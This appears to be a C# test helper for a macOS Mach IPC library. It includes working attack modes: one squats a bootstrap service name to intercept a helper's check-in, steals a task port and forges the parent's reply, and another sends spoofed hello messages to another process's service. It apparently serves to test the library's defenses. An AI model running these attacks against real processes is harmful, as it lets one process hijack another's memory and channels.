using System;
using System.Runtime.InteropServices;
using MachIpc.Abi;
using MachIpc.Bootstrap;
using MachIpc.Connections;
using MachIpc.Kernel;
using MachIpc.Ports;

namespace MachIpc.ProcessHelper;

/// <summary>The pattern-1 rendezvous seen from a helper and from a process that impersonates its parent.</summary>
internal static unsafe class RendezvousModes
{
    /// <summary>
    /// Check in as a helper whose parent is this process's parent; prints "connected" (then holds the channel until
    /// a line arrives on stdin) or "refused &lt;why&gt;".
    /// </summary>
    public static int Connect(string service, bool sendTaskPort)
    {
        try
        {
            using var channel = HelperRendezvous.Connect(service, new HelperConnectOptions { SendTaskPort = sendTaskPort });
            Console.WriteLine("connected");
            Console.ReadLine();
        }
        catch (Exception ex) when (ex is MachRendezvousException or MachException)
        {
            Console.WriteLine("refused " + ex.Message.ReplaceLineEndings(" "));
        }
        return 0;
    }

    /// <summary>
    /// The attack: check in <paramref name="service"/> before the parent does, answer the first check-in as the
    /// parent would (with a channel of our own), and report whether it handed us a task port we could use.
    /// </summary>
    public static int Squat(string service)
    {
        using var port = BootstrapServer.CheckIn(service);
        Console.WriteLine("listening");
        byte* buffer = stackalloc byte[1024];
        var request = (MachMsgHeader*)buffer;
        var mr = Mach.Msg(request, MachMsgOption.RcvMsg | MachMsgOption.RcvTimeout, 0, 1024, port.Name, 20_000, MachPortName.Null);
        if (mr != MachMsgReturn.Success)
        {
            Console.WriteLine("nothing arrived: " + mr);
            return 1;
        }
        string loot = "no task port";
        if (request->IsComplex)
        {
            uint count = ((MachMsgBody*)(buffer + sizeof(MachMsgHeader)))->DescriptorCount;
            for (uint i = 0; i < count && i < 8; i++)
            {
                var d = (MachMsgPortDescriptor*)(buffer + sizeof(MachMsgHeader) + sizeof(MachMsgBody) + i * sizeof(MachMsgPortDescriptor));
                int pid;
                if (d->Type == MachMsgDescriptorType.Port && MachPortName.IsValid(d->Name) && Mach.PidForTask(d->Name, &pid) == KernReturn.Success)
                {
                    uint stolen;
                    var kr = Mach.PortAllocate(d->Name, MachPortRight.Receive, &stolen); // full control of the victim's space
                    loot = $"task port of pid {pid}: allocate {kr}";
                }
            }
        }
        // Answer exactly as the parent's rendezvous does, with ports of our own.
        using var inbound = ReceiveRight.Allocate();
        using var outbound = ReceiveRight.Allocate();
        var reply = new ForgedCheckInReply();
        reply.Header.Bits = MachMsgBits.Complex | MachMsgBits.Make(MachMsgType.MoveSendOnce, MachMsgType.None);
        reply.Header.Size = (uint)sizeof(ForgedCheckInReply);
        reply.Header.RemotePort = request->RemotePort;
        reply.Header.Id = request->Id + 1; // 0x4D490001 -> 0x4D490002
        reply.Body.DescriptorCount = 2;
        reply.ChannelReceive = Descriptor(inbound.TakeName(), MachMsgType.MoveReceive);
        reply.ChannelSend = Descriptor(outbound.Name, MachMsgType.MakeSend);
        mr = Mach.Msg(&reply.Header, MachMsgOption.SendMsg | MachMsgOption.SendTimeout, reply.Header.Size, 0, 0, 5000, 0);
        Console.WriteLine($"{loot}; reply {mr}");
        return 0;
    }

    /// <summary>Pattern 2's spoof: look up someone's rendezvous service and send it a well-formed hello first.</summary>
    public static int Hello(string service)
    {
        using var mine = ReceiveRight.Allocate();
        using var target = BootstrapServer.LookUp(service);
        var hello = new ForgedHello();
        hello.Header.Bits = MachMsgBits.Complex | MachMsgBits.Make(MachMsgType.CopySend, MachMsgType.None);
        hello.Header.Size = (uint)sizeof(ForgedHello);
        hello.Header.RemotePort = target.Name;
        hello.Header.Id = 0x4D490011;
        hello.Body.DescriptorCount = 1;
        hello.Channel = Descriptor(mine.Name, MachMsgType.MakeSend);
        var mr = Mach.Msg(&hello.Header, MachMsgOption.SendMsg | MachMsgOption.SendTimeout, hello.Header.Size, 0, 0, 5000, 0);
        Console.WriteLine(mr == MachMsgReturn.Success ? "sent" : "failed " + mr);
        return 0;
    }

    [StructLayout(LayoutKind.Sequential, Pack = 4)]
    private struct ForgedHello
    {
        public MachMsgHeader Header;
        public MachMsgBody Body;
        public MachMsgPortDescriptor Channel;
    }

    private static MachMsgPortDescriptor Descriptor(uint name, MachMsgType disposition) =>
        new() { Name = name, Disposition = disposition, Type = MachMsgDescriptorType.Port };

    /// <summary>The parent's answer, laid out by hand as an impersonator would.</summary>
    [StructLayout(LayoutKind.Sequential, Pack = 4)]
    private struct ForgedCheckInReply
    {
        public MachMsgHeader Header;
        public MachMsgBody Body;
        public MachMsgPortDescriptor ChannelReceive;
        public MachMsgPortDescriptor ChannelSend;
    }
}
